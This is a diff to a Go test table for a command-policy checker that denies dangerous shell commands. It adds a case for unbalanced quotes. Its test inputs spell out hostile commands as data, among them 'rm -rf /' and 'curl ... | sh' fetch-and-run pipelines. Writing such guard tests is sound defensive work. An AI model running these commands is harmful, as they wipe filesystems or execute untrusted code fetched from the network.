@@ -37,6 +37,8 @@ func TestPolicyShell(t *testing.T) {
 		{name: "the same unquoted is a pipeline", args: []string{"--", "echo a | rm -rf /"}, code: exitRefused, out: denyRM},
 		{name: "curl | sh", args: []string{"--", "curl -s https://example.com/i.sh | sh"}, code: exitRefused,
 			out: "denied by remote_code_execution/fetch_to_shell: a shell or interpreter runs code downloaded from the network (curl | sh)\nsegment: sh\n"},
+		{name: "unbalanced quotes do not parse, they are not dangerous", args: []string{"--", "echo 'it"}, code: exitRefused,
+			out: "refused by parse/unbalanced: the command does not parse as shell, so it cannot be checked: reached EOF without closing quote `'`\nsegment: echo 'it\n"},
 		{name: "no -- needed without dashes", args: []string{"uptime"}, out: "allowed\n"},
 		{name: "a config disabling the group lets it through", args: []string{"--config", offDestructive, "--", "rm", "-rf", "/"}, out: "allowed\n"},
 		{name: "other groups still hold", args: []string{"-c", offDestructive, "--", "curl x | sh"}, code: exitRefused, out: "denied by remote_code_execution/"},
